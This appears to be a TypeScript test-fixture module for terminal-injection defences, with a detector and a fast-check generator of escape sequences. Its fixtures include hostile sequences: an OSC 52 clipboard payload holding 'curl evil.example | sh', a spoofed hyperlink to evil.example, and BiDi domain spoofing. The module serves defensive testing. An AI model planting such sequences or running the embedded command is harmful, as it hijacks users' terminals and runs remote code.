// What a hostile server (or anything on the path) puts in the text it sends, to take over the
// terminal that shows it, and the check that none of it reached a terminal.
import fc from 'fast-check';

const esc = '\u001B';

/** Every kind of sequence: each one does something if a terminal receives it. */
export const hostileSequences = {
	osc52Clipboard: `${esc}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`,
	osc0Title: `${esc}]0;pwned${esc}\\`,
	osc8Link: `${esc}]8;;https://evil.example/${esc}\\https://constantcontact.com${esc}]8;;${esc}\\`,
	csiReport: `${esc}[6n`,
	csiClear: `${esc}[2J${esc}[H`,
	c1Csi: '\u009B31m',
	c1Osc: '\u009D0;title\u009C',
	bidiOverride: 'moc.elpmaxe\u202E',
	bidiIsolate: '\u2067evil\u2069',
	bell: '\u0007',
	del: '\u007F',
	lineBreaks: 'line\r\nbreak\u2028here',
} as const;

/** All of them in one value, between ordinary words. */
export const hostileText = `Maya ${Object.values(hostileSequences).join(' ')} Okafor`;

/**
 * What in these bytes a terminal would act on that no text from a server may bring: bytes that
 * are not UTF-8 (a lone C1 byte), an OSC introducer, any C1 control, BEL, DEL, the CSIs planted
 * above, BiDi overrides and isolates. The guide's own output holds ordinary CSIs (colours,
 * cursor moves), so those alone are allowed.
 */
export function terminalAttacks(bytes: Buffer): string[] {
	let text: string;
	try {
		text = new TextDecoder('utf-8', {fatal: true}).decode(bytes);
	} catch {
		return ['bytes that are not UTF-8'];
	}
	const attacks: Array<[string, RegExp]> = [
		['OSC (ESC ])', /\u001B\]/],
		['C1 control', /[\u0080-\u009F]/],
		['BEL', /\u0007/],
		['DEL', /\u007F/],
		['CSI 6n (makes the terminal type)', /\u001B\[6n/],
		['CSI 2J (clears the screen)', /\u001B\[2J/],
		['BiDi override or isolate', /[\u202A-\u202E\u2066-\u2069]/],
	];
	return attacks.filter(([, pattern]) => pattern.test(text)).map(([what]) => what);
}

/**
 * Real escape and control sequences, as a terminal parses them (ECMA-48): CSI with parameters,
 * intermediates and a final byte, OSC, DCS, SOS, PM and APC strings ended by BEL, ESC \ or ST,
 * each introduced by ESC or by its C1 byte, lone C1 controls, and BiDi controls.
 */
export function escapeSequence(): fc.Arbitrary<string> {
	const text = fc.string({unit: fc.constantFrom(...'abc;:=?/.+0123456789 ')});
	const stringEnd = fc.constantFrom('\u0007', `${esc}\\`, '\u009C');
	const csi = fc
		.tuple(
			fc.constantFrom(`${esc}[`, '\u009B'),
			fc.string({unit: fc.constantFrom(...'0123456789;:<=>?')}),
			fc.string({unit: fc.constantFrom(...' !"#$%&\'()*+,-./'), maxLength: 2}),
			fc.integer({min: 0x40, max: 0x7e}).map((code) => String.fromCharCode(code)),
		)
		.map((parts) => parts.join(''));
	const controlString = fc
		.tuple(
			fc.constantFrom(
				`${esc}]`,
				'\u009D',
				`${esc}P`,
				'\u0090',
				`${esc}X`,
				'\u0098',
				`${esc}^`,
				'\u009E',
				`${esc}_`,
				'\u009F',
			),
			text,
			stringEnd,
		)
		.map((parts) => parts.join(''));
	const lone = fc.oneof(
		fc.integer({min: 0x80, max: 0x9f}).map((code) => String.fromCharCode(code)),
		fc.integer({min: 0x40, max: 0x5f}).map((code) => `${esc}${String.fromCharCode(code)}`),
		fc.constantFrom(
			'\u202A',
			'\u202B',
			'\u202C',
			'\u202D',
			'\u202E',
			'\u2066',
			'\u2067',
			'\u2068',
			'\u2069',
			'\u200E',
			'\u200F',
			'\u061C',
		),
	);
	return fc.oneof(csi, controlString, lone);
}
